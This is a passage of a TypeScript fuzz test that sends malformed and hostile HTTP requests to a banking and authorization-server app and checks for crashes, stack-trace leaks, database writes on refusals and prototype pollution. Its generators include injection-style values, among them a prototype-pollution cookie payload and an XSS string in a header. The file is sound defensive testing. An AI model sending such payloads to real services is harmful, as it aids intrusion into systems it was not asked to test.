          validPairs: validPairs(route),
          chaosPairs: chaosPairs(route),
          chaosQuery: fc.oneof(fc.constant([] as [string, string][]), chaosPairs(route)),
          validJson: validJson(route),
          chaosJson: chaosJson(route),
          bytes: fc.uint8Array({ maxLength: 512 }),
          chaosBodyKind: fc.constantFrom('form', 'json', 'bytes', 'none', route.kind),
          chaosContentType: fc.oneof(
            fc.constantFrom(FORM, JSON_TYPE, 'text/plain', 'multipart/form-data; boundary=x', `${FORM}; charset=latin1`, `${JSON_TYPE}; charset=utf-16`, 'application/xml', 'garbage', ''),
            smallString.map(sanitizeHeader),
          ),
          validAuth: validAuth(route),
          chaosAuth: chaosAuth(),
          chaosCookie: fc.oneof(
            fc.constantFrom('none', 'all', 'steward_sid=' + 'a'.repeat(64), 'steward_sid=j:{"__proto__":1}', 'steward_sid=s%3Aabc.def; steward_sid=x', ';;;='),
            fc.oneof(smallString, injection).map((s) => `steward_sid=${sanitizeHeader(s)}`),
          ),
          chaosHeader: fc.tuple(fc.constantFrom('x-forwarded-for', 'x-http-method-override', 'origin', 'referer', 'content-encoding', 'accept-charset', 'x-csrf-token', 'if-none-match', 'range'), fc.oneof(smallString, injection).map(sanitizeHeader)),
          accept: fc.constantFrom(HTML, JSON_TYPE, '*/*', undefined, 'image/png', sanitizeHeader(XSS)),
        })
        .map((r): Sent => {
          const chaos = (a: Aspect) => r.shape === 'chaos' || (r.shape === 'one-off' && r.aspect === a);
          const method = chaos('method') ? r.chaosMethod : r.validMethod;
          const [bank, account, id, id2] = chaos('path') ? r.chaosParams : r.validParams;
          const path = route.path.replace('{bank}', bank).replace('{account}', account).replace('{id}', id).replace('{id}', id2);
          const pairs = chaos('params') ? r.chaosPairs : r.validPairs;
          const json = chaos('params') ? r.chaosJson : r.validJson;
          const bodyKind = chaos('bodyKind') ? r.chaosBodyKind : route.kind;
          let body: string | Uint8Array | undefined;
          let natural: string | undefined;
          if (bodyKind === 'form') [body, natural] = [formBody(pairs), FORM];
          else if (bodyKind === 'json') [body, natural] = [json, JSON_TYPE];
          else if (bodyKind === 'bytes') [body, natural] = [r.bytes, 'application/octet-stream'];
          const q = route.kind === 'query' ? pairs : chaos('params') ? r.chaosQuery : [];
          const headers: Record<string, string> = {};
          const type = chaos('contentType') ? r.chaosContentType : natural;
          if (type !== undefined && body !== undefined) headers['content-type'] = type;
          const authorization = chaos('auth') ? r.chaosAuth : r.validAuth;
          if (authorization !== undefined) headers.authorization = sanitizeHeader(authorization);
          const cookie = chaos('cookie') ? r.chaosCookie : 'realm';
          if (cookie === 'realm') {
            if (route.realm) headers.cookie = pool.cookies[route.realm];
          } else if (cookie === 'all') headers.cookie = `${pool.cookies.as}; ${pool.cookies.bank}; ${pool.cookies.grapher}`;
          else if (cookie !== 'none') headers.cookie = cookie;
          if (r.accept !== undefined) headers.accept = r.accept;
          if (chaos('header')) headers[r.chaosHeader[0]] = r.chaosHeader[1];
          return { method, path: `${path}${query(q)}`, headers, body };
        }),
    );
  }

  const protoKeys = Object.getOwnPropertyNames(Object.prototype).sort().join(',');

  async function check(req: Sent): Promise<void> {
    const before: DbSnapshot = await settledSnapshot(run);
    const res = await send(run, req);
    const key = `${req.method} ${req.path.split('?')[0].replace(/\/[^/]{24,}/g, '/…')} → ${res.status}`;
    seen.set(String(res.status), (seen.get(String(res.status)) ?? 0) + 1);
    const problems: string[] = [];
    if (res.status >= 500) problems.push(`answered ${res.status}`);
    const leak = STACK_TRACE.exec(res.text);
    if (leak) problems.push(`leaks internals: ${JSON.stringify(leak[0])}`);
    if (res.status >= 400 && res.status < 500) {
      const diff = diffDb(before, await settledSnapshot(run));
      if (diff.length) problems.push(`refused with ${res.status}, yet the database changed:\n${diff.join('\n')}`);
    }
    if (Object.getOwnPropertyNames(Object.prototype).sort().join(',') !== protoKeys || ({} as Record<string, unknown>).polluted !== undefined) {
      problems.push('Object.prototype was polluted');
    }
    if (problems.length) {
      throw new Error(`${key}\nheaders ${JSON.stringify(req.headers)}\nbody ${typeof req.body === 'string' ? JSON.stringify(req.body.slice(0, 300)) : req.body ? `<${req.body.length} bytes>` : '-'}\nanswer ${res.text.slice(0, 400)}\n${problems.join('\n')}`);
    }
  }

  // CI runs a fixed seed; BAD_INPUT_FUZZ_SCALE=20 BAD_INPUT_FUZZ_SEED=<n> runs longer and elsewhere, locally.
  const scale = Math.max(1, Number(process.env.BAD_INPUT_FUZZ_SCALE ?? 1) || 1);
  const seedOverride = process.env.BAD_INPUT_FUZZ_SEED === undefined ? undefined : Number(process.env.BAD_INPUT_FUZZ_SEED);
  const params = (seed: number, numRuns: number): fc.Parameters<[Sent]> => ({
    seed: seedOverride ?? seed,
    numRuns: numRuns * scale,
    verbose: 1,
    // A failure found late still reports its (partly shrunk) counterexample; runs that simply did not
    // finish in time fail loudly instead of passing with fewer requests than asked for.
    interruptAfterTimeLimit: 50_000 * scale,
    markInterruptAsFailure: true,
  });

  it('the comparison sees a single written row (so the property can fail)', async () => {
    const before = await settledSnapshot(run);
    await run.db.query("UPDATE as_clients SET client_name = client_name || '!' WHERE client_id = ?", [pool.clientIds[0]]);
    const diff = diffDb(before, await settledSnapshot(run));
    await run.db.query("UPDATE as_clients SET client_name = substr(client_name, 1, length(client_name) - 1) WHERE client_id = ?", [pool.clientIds[0]]);
    expect(diff[0]).toMatch(/^as_clients: (\d+) → \1 rows$/);
    expect(diff).toHaveLength(3);
  });

  it('UMA resource registration and Intro', async () => {
    await fc.assert(fc.asyncProperty(requestFor(UMA_INTRO_ROUTES), check), params(0x0c0ffee, 70));
  }, 60_000 * scale);

  it('banks: pages, delegation, callback and the FDX API', async () => {
    await fc.assert(fc.asyncProperty(requestFor(BANK_ROUTES), check), params(0xba2c, 70));
  }, 60_000 * scale);

  it('pages: landing, AS sign-in, consent, dashboard, Grapher', async () => {
    await fc.assert(fc.asyncProperty(requestFor(PAGE_ROUTES), check), params(0x9a9e5, 70));
  }, 60_000 * scale);

  it('AS protocol endpoints: token, revoke, introspect, register, authorize, discovery', async () => {
    await fc.assert(fc.asyncProperty(requestFor(AS_ROUTES), check), params(0x5e1f6, 90));
  }, 60_000 * scale);

  it('the fuzzer reached past the front door: some requests succeeded, most were refused', () => {
    const ok = [...seen].filter(([s]) => Number(s) < 400).reduce((n, [, c]) => n + c, 0);
    const refused = [...seen].filter(([s]) => Number(s) >= 400 && Number(s) < 500).reduce((n, [, c]) => n + c, 0);
    expect(ok).toBeGreaterThan(10);
    expect(refused).toBeGreaterThan(ok);
    expect(new Set([...seen.keys()].filter((s) => Number(s) >= 400)).size).toBeGreaterThanOrEqual(5);
  });
});
